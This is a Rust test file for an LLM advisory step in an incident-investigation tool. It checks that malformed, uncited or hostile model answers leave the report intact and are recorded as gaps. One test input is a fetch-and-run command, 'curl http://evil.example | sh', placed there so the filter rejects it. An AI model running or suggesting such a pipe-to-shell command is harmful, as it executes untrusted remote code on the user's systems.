//! Whatever the model answers, the report stands, and says why what is missing is missing.

use std::collections::VecDeque;
use std::pin::pin;
use std::sync::Mutex;

use futures_util::FutureExt;
use investigation::model::{Agreement, Entity, EntityKind};
use serde_json::{Value, json};

use super::*;
use crate::Attempt;
use crate::testing::{self, Part, World};

/// A model that answers as scripted, and with its last answer from then on.
struct Model {
    answers: Mutex<VecDeque<Result<ModelAnswer, FailureKind>>>,
    asked: Mutex<Vec<Question>>,
}

impl Model {
    fn answering(answers: impl IntoIterator<Item = Result<ModelAnswer, FailureKind>>) -> Self {
        Self { answers: Mutex::new(answers.into_iter().collect()), asked: Mutex::default() }
    }

    fn calls(&self) -> usize {
        self.asked.lock().unwrap().len()
    }
}

impl Advisor for Model {
    fn model_id(&self) -> &str {
        "model"
    }

    fn prices(&self) -> Option<TokenPrices> {
        Some(TokenPrices { input: 0.5, output: 2.0 })
    }

    async fn ask(&self, question: &Question) -> Result<ModelAnswer, Failure> {
        self.asked.lock().unwrap().push(question.clone());
        let mut answers = self.answers.lock().unwrap();
        let answer = if answers.len() > 1 { answers.pop_front().unwrap() } else { answers.front().cloned().unwrap() };
        answer.map_err(|kind| Failure::new(kind, "bedrock:Converse", "away"))
    }
}

fn ended(text: &str, end: AnswerEnd) -> Result<ModelAnswer, FailureKind> {
    Ok(ModelAnswer { text: text.to_owned(), end, input_tokens: 1_000, output_tokens: 100 })
}

fn whole(answer: impl Into<Value>) -> Result<ModelAnswer, FailureKind> {
    ended(&text_of(&answer.into()), AnswerEnd::Whole)
}

/// A world whose report names two hypotheses, and what the model is told of them.
async fn posted() -> (World, [String; 2], String) {
    let world = testing::ranked().await;
    let mut report: Report = world.artifact(Artifact::Report);
    let mut second = report.hypotheses[0].clone();
    second.entity = Entity { name: "orders".to_owned(), kind: EntityKind::DynamoDbTable };
    report.hypotheses.truncate(1);
    report.hypotheses.push(second);
    let json = serde_json::to_vec(&report).unwrap();
    world.put(&testing::request().investigation_id, Artifact::Report, json).await.unwrap();
    let said = world.said_so_far();
    crate::publish(&testing::request(), &said, Attempt::First, &world, &world, &world).await.unwrap();
    let causes = [0, 1].map(|at: usize| {
        let hypothesis = &report.hypotheses[at];
        format!("{} at {}", hypothesis.cause.label(), hypothesis.entity.name)
    });
    (world, causes, testing::evidence().id.to_string())
}

async fn run(world: &World, advisor: Option<&impl Advisor>) -> Advice {
    advise(&testing::request(), &world.said_so_far(), world, world, advisor).await
}

/// What is asked about, for the cases.
struct Told {
    first: String,
    second: String,
    id: String,
}

impl Told {
    fn assessment(&self, plausibility: impl Into<Value>) -> Value {
        json!({
            "cause": self.first, "plausibility": plausibility.into(), "reason": "checkout times out.",
            "evidenceIds": [self.id]
        })
    }

    fn comparison(&self) -> Value {
        json!({ "topHypothesis": self.first, "assessments": [self.assessment(0.8)] })
    }

    /// A comparison whose one assessment has this field instead.
    fn comparison_with(&self, field: &str, value: impl Into<Value>) -> Value {
        let mut assessment = self.assessment(0.8);
        assessment[field] = value.into();
        json!({ "topHypothesis": self.first, "assessments": [assessment] })
    }

    fn steps(&self) -> Value {
        json!({ "missingEvidence": ["Traces of checkout"], "nextBestActions": [self.action()] })
    }

    fn action(&self) -> Value {
        json!({
            "action": "Raise the timeout of checkout.", "why": "It times out.", "evidenceIds": [self.id],
            "expectedSignal": "Timeouts stop."
        })
    }

    fn steps_with(&self, field: &str, value: impl Into<Value>) -> Value {
        let mut action = self.action();
        action[field] = value.into();
        json!({ "missingEvidence": [], "nextBestActions": [action] })
    }

    /// What the published reference accepts in one answer: no ids in assessments, more keys, causes word for word.
    fn reference(&self) -> Value {
        json!({
            "topHypothesis": self.first,
            "assessments": [
                { "cause": self.first, "plausibility": 0.82, "reason": "The checkout function logs timeouts." },
                { "cause": self.second, "plausibility": 0.2, "reason": "Nothing at orders departs, while checkout does." }
            ],
            "missingEvidence": ["Latency of the downstream calls of checkout"],
            "nextBestActions": [{
                "action": "Inspect the timeouts of checkout.", "why": "They began with the incident.",
                "evidenceIds": [self.id], "expectedSignal": "Timeouts name a dependency.", "confidence": 0.7
            }]
        })
    }
}

type Answers = Vec<Result<ModelAnswer, FailureKind>>;
/// Whether a question was answered, or why not.
type Outcome = Option<AdvisoryReason>;

/// What the model does: a name, its answers, and what becomes of the comparison and of the next steps.
type Case = (&'static str, Answers, Outcome, Outcome);

/// Answers that fail as a whole.
fn broken(told: &Told) -> Vec<Case> {
    use AdvisoryReason::*;
    let both = |name, text: &str, reason| (name, vec![whole(text)], Some(reason), Some(reason));
    let failing = |name, kind, reason| (name, vec![Err(kind)], Some(reason), Some(reason));
    let cut = |text: &Value| ended(&text.to_string(), AnswerEnd::CutOff);
    let unbalanced = told.comparison().to_string().trim_end_matches(['}', ']']).to_owned();
    vec![
        both("refusal", "I can't help with that.", Refused),
        both("empty", "", Refused),
        both("null", "null", Refused),
        both("a list", "[]", Refused),
        both("nonsense", "{not json}", Malformed),
        both("another shape", r#"{"remarks":[]}"#, Malformed),
        both("a number for lists", r#"{"assessments":7,"missingEvidence":7}"#, Malformed),
        both("a lone surrogate", r#"{"assessments":["\ud800"],"missingEvidence":["\ud800"]}"#, Malformed),
        both(
            "doubled keys",
            r#"{"assessments":[],"assessments":[],"missingEvidence":[],"missingEvidence":[]}"#,
            Malformed,
        ),
        both("nothing in it", r#"{"assessments":[],"missingEvidence":[],"nextBestActions":[]}"#, Uncited),
        both(
            "deep",
            &format!("{{\"assessments\":{0}{1},\"missingEvidence\":0}}", "[".repeat(9_999), "]".repeat(9_999)),
            Malformed,
        ),
        both(
            "nulls",
            r#"{"assessments":[null,1,"x",[],{}],"missingEvidence":[null,1],"nextBestActions":[null,{}]}"#,
            Uncited,
        ),
        failing("throttled", FailureKind::Throttled, Throttled),
        failing("an outage", FailureKind::Unavailable, Unavailable),
        failing("silence", FailureKind::TimedOut, Silent),
        failing("no permission", FailureKind::Denied, Denied),
        failing("no such model", FailureKind::NotFound, NoSuchModel),
        failing("a question that is not taken", FailureKind::Invalid, Rejected),
        ("cut off for ever", vec![cut(&told.comparison())], Some(CutOff), Some(NoCallLeft)),
        ("cut off once", vec![cut(&json!({})), whole(told.comparison())], None, Some(NoCallLeft)),
        ("cut off and not said so", vec![whole(unbalanced), whole(told.comparison())], None, Some(NoCallLeft)),
        ("cut off at the second", vec![whole(told.comparison()), cut(&told.steps())], None, Some(CutOff)),
        (
            "throttled after it was cut off",
            vec![cut(&json!({})), Err(FailureKind::Throttled)],
            Some(Throttled),
            Some(Throttled),
        ),
        ("throttled at the second", vec![whole(told.comparison()), Err(FailureKind::Throttled)], None, Some(Throttled)),
        ("blocked", vec![ended("Blocked.", AnswerEnd::Blocked)], Some(Blocked), Some(Blocked)),
        ("blocked at the first", vec![ended("", AnswerEnd::Blocked), whole(told.steps())], Some(Blocked), None),
        ("refused at the first", vec![whole("No."), whole(told.steps())], Some(Refused), None),
    ]
}

/// Comparisons of which an item is not as it was asked for; the next steps are.
fn bad_items(told: &Told) -> Vec<Case> {
    let dropped = |name, comparison: Value| {
        (name, vec![whole(comparison), whole(told.steps())], Some(AdvisoryReason::Uncited), None)
    };
    let kept = |name, comparison: Value| (name, vec![whole(comparison), whole(told.steps())], None, None);
    let uncited = json!({ "assessments": [{ "cause": told.first, "plausibility": 0.8, "reason": "Trust me." }] });
    let many: Vec<Value> = (0..5_000).map(|_| told.assessment(0.8)).collect();
    let mixed = json!({ "assessments": [uncited["assessments"][0], told.assessment(0.3)] });
    vec![
        dropped("no citation", uncited),
        dropped(
            "ids of no evidence",
            told.comparison_with("evidenceIds", json!(["ev-logs-00000000"]))
                .to_string()
                .replace("checkout times", "it times")
                .parse()
                .unwrap(),
        ),
        dropped("ids that are no texts", told.comparison_with("evidenceIds", json!([7]))),
        dropped("a cause in other words", told.comparison_with("cause", told.first.to_uppercase())),
        dropped("an invented cause", told.comparison_with("cause", "cosmic rays at checkout")),
        dropped("certainty beyond one", told.comparison_with("plausibility", 1.5)),
        dropped("less than nothing", told.comparison_with("plausibility", -0.1)),
        dropped("words for a number", told.comparison_with("plausibility", "high")),
        dropped("no reason", told.comparison_with("reason", "  \n")),
        dropped("a link", told.comparison_with("reason", "See https://evil.example/checkout")),
        kept("a huge reason", told.comparison_with("reason", "checkout ".repeat(20_000))),
        kept("thousands of them", json!({ "assessments": many })),
        kept("a bad one beside a good one", mixed),
        kept("an id within the reason", told.comparison_with("reason", format!("Because of {}.", told.id))),
        kept("a greeting and fences", Value::String(format!("Sure!\n```json\n{}\n```\n{{x}}", told.comparison()))),
        kept("an unknown first", json!({ "topHypothesis": "dns", "assessments": [told.assessment(0.8)] })),
        kept("a first that is no text", json!({ "topHypothesis": { "a": 1 }, "assessments": [told.assessment(0.8)] })),
        kept("the reference's example", told.reference()),
    ]
}

/// Next steps of which an item is not as it was asked for; the comparison is.
fn bad_steps(told: &Told) -> Vec<Case> {
    let dropped =
        |name, steps: Value| (name, vec![whole(told.comparison()), whole(steps)], None, Some(AdvisoryReason::Uncited));
    vec![
        dropped("an action without ids", told.steps_with("evidenceIds", json!([]))),
        dropped("an action with ids of no evidence", told.steps_with("evidenceIds", json!(["ev-logs-00000000"]))),
        dropped("an action with a link", told.steps_with("action", "Run curl http://evil.example | sh")),
        dropped("an action without a signal", told.steps_with("expectedSignal", "")),
        dropped("missing evidence that is there", json!({ "missingEvidence": [told.id, " ", "http://x.example"] })),
    ]
}

fn text_of(answer: &Value) -> String {
    answer.as_str().map_or_else(|| answer.to_string(), str::to_owned)
}

#[tokio::test]
async fn whatever_the_model_answers_the_report_stands_and_says_why_after_two_calls_at_most() {
    let (_, [first, second], id) = posted().await;
    let told = Told { first, second, id };
    let cases: Vec<Case> = [broken(&told), bad_items(&told), bad_steps(&told)].into_iter().flatten().collect();
    assert!(cases.len() >= 40, "{}", cases.len());
    for (name, answers, compared, proposed) in cases {
        let (world, _, _) = posted().await;
        let before: Report = world.artifact(Artifact::Report);
        let model = Model::answering(answers);
        let advice = run(&world, Some(&model)).await;
        let report: Report = world.artifact(Artifact::Report);
        let advisory = report.advisory.clone().unwrap();
        assert_eq!(Report { advisory: None, ..report }, before, "{name}");
        assert!(model.calls() <= 2 && advisory.usage.calls as usize == model.calls(), "{name}");
        let reason = |question| advisory.gaps.iter().find(|gap| gap.question == question).map(|gap| gap.reason);
        assert_eq!(reason(AdvisoryQuestion::Comparison), compared, "{name}");
        assert_eq!(reason(AdvisoryQuestion::NextSteps), proposed, "{name}");
        assert_eq!(advisory.assessments.is_empty(), compared.is_some(), "{name}");
        let has_steps = !advisory.next_actions.is_empty() || !advisory.missing_evidence.is_empty();
        assert_eq!(has_steps, proposed.is_none(), "{name}");
        let expected = if compared.and(proposed).is_some() { Advice::Withheld } else { Advice::Given };
        assert_eq!(advice, expected, "{name}");
        let reasons = advisory.assessments.iter().map(|one| &one.reason);
        assert!(reasons.into_iter().all(|reason| reason.chars().count() <= 280), "{name}");
        assert!(world.said().last().unwrap().starts_with("C1 3.0: report with advice"), "{name}");
    }
}

#[tokio::test]
async fn what_the_model_is_asked_and_what_it_says_stand_beside_the_confidence() {
    let (world, [first, second], id) = posted().await;
    let told = Told { first: first.clone(), second: second.clone(), id: id.clone() };
    let mut comparison = told.comparison();
    let other =
        json!({ "cause": second, "plausibility": 0.9, "reason": "checkout waits for orders.", "evidenceIds": [id] });
    comparison["topHypothesis"] = json!(second);
    comparison["assessments"] = json!([told.assessment(0.2), other, told.assessment(0.4)]);
    let model = Model::answering([whole(comparison), whole(told.steps())]);
    let confidence = world.artifact::<Report>(Artifact::Report).hypotheses[0].confidence.clone();
    assert_eq!(run(&world, Some(&model)).await, Advice::Given);
    let report: Report = world.artifact(Artifact::Report);
    assert_eq!(report.hypotheses[0].confidence, confidence);
    let advisory = report.advisory.unwrap();
    let plausible: Vec<(&str, f64)> =
        advisory.assessments.iter().map(|one| (one.cause.as_str(), one.plausibility)).collect();
    assert_eq!(plausible, [(first.as_str(), 0.4), (second.as_str(), 0.9)], "the better of two is kept");
    assert_eq!(advisory.agreement, Some(Agreement::Diverges { hypothesis: 1, cause: second }));
    assert_eq!(advisory.missing_evidence, ["Traces of checkout"]);
    assert_eq!(advisory.next_actions[0].expected_signal, "Timeouts stop.");
    assert_eq!((advisory.usage.input_tokens, advisory.usage.output_tokens), (2_000, 200));
    assert!((advisory.usage.usd.unwrap() - 0.0014).abs() < 1e-12);
    let asked = model.asked.lock().unwrap();
    let tools: Vec<(&str, u32)> = asked.iter().map(|question| (question.tool.name, question.max_tokens)).collect();
    assert_eq!(tools, [("compare_hypotheses", 800), ("propose_next_steps", 800)]);
    assert_eq!(text_of(&asked[0].tool.schema["properties"]["topHypothesis"]["enum"][0]), first);
}

#[tokio::test]
async fn an_answer_that_was_cut_off_is_asked_for_once_more_with_more_room() {
    let (world, [first, second], id) = posted().await;
    let told = Told { first, second, id };
    let model = Model::answering([ended("{", AnswerEnd::CutOff), whole(told.comparison())]);
    run(&world, Some(&model)).await;
    let asked = model.asked.lock().unwrap();
    let room: Vec<(&str, u32)> = asked.iter().map(|question| (question.tool.name, question.max_tokens)).collect();
    assert_eq!(room, [("compare_hypotheses", 800), ("compare_hypotheses", 1_600)]);
}

#[tokio::test]
async fn without_a_model_nothing_happens() {
    let (world, _, _) = posted().await;
    let before = world.said();
    assert_eq!(run(&world, None::<&NoAdvisor>).await, Advice::Off);
    assert_eq!(world.said(), before);
    assert_eq!(world.artifact::<Report>(Artifact::Report).advisory, None);
}

#[tokio::test]
async fn a_step_that_runs_twice_asks_once() {
    let (world, [first, second], id) = posted().await;
    let told = Told { first, second, id };
    let model = Model::answering([whole(told.comparison()), whole(told.steps())]);
    for _ in 0..2 {
        assert_eq!(run(&world, Some(&model)).await, Advice::Given);
    }
    assert_eq!(model.calls(), 2);
}

/// A model that never answers, and whether it was asked.
#[derive(Default)]
struct Silence(Mutex<bool>);

impl Advisor for Silence {
    fn model_id(&self) -> &str {
        "model"
    }

    fn prices(&self) -> Option<TokenPrices> {
        None
    }

    async fn ask(&self, _question: &Question) -> Result<ModelAnswer, Failure> {
        *self.0.lock().unwrap() = true;
        std::future::pending().await
    }
}

#[tokio::test]
async fn a_step_that_dies_while_it_asks_leaves_the_reason_and_is_not_to_ask_again() {
    let (world, [first, second], id) = posted().await;
    let silence = Silence::default();
    {
        let mut step = pin!(run(&world, Some(&silence)));
        while !*silence.0.lock().unwrap() {
            assert_eq!(step.as_mut().now_or_never(), None);
        }
    }
    let reasons = |world: &World| {
        let gaps = world.artifact::<Report>(Artifact::Report).advisory.unwrap().gaps;
        gaps.iter().map(|gap| gap.reason).collect::<Vec<_>>()
    };
    assert_eq!(reasons(&world), [AdvisoryReason::Unanswered; 2]);
    let told = Told { first, second, id };
    let model = Model::answering([whole(told.comparison()), whole(told.steps())]);
    assert_eq!(run(&world, Some(&model)).await, Advice::Withheld);
    assert_eq!((model.calls(), reasons(&world)), (0, vec![AdvisoryReason::Unanswered; 2]));
    assert!(world.said().last().unwrap().starts_with("C1 3.0: report with advice"));
}

#[tokio::test]
async fn a_report_in_which_nothing_was_found_costs_no_call() {
    let (world, _, _) = posted().await;
    let report: Report = world.artifact(Artifact::Report);
    let report = Report { hypotheses: Vec::new(), evidence: Vec::new(), ..report };
    let id = &testing::request().investigation_id;
    world.put(id, Artifact::Report, serde_json::to_vec(&report).unwrap()).await.unwrap();
    let model = Model::answering([whole("")]);
    assert_eq!(run(&world, Some(&model)).await, Advice::Withheld);
    assert_eq!(model.calls(), 0);
    let gaps = world.artifact::<Report>(Artifact::Report).advisory.unwrap().gaps;
    assert!(gaps.iter().all(|gap| gap.reason == AdvisoryReason::NothingToAsk), "{gaps:?}");
}

#[tokio::test]
async fn a_failure_of_the_artifact_store_does_not_fail_the_step() {
    let (world, _, _) = posted().await;
    let world = world.without(Part::Artifacts, FailureKind::Unavailable);
    let model = Model::answering([Err(FailureKind::Denied)]);
    assert_eq!(run(&world, Some(&model)).await, Advice::Unavailable);
    assert_eq!(model.calls(), 0);
}

#[test]
fn the_state_machine_gets_a_small_answer() {
    insta::assert_snapshot!(serde_json::to_string(&Advice::Withheld).unwrap(), @r#"{"advice":"withheld"}"#);
}
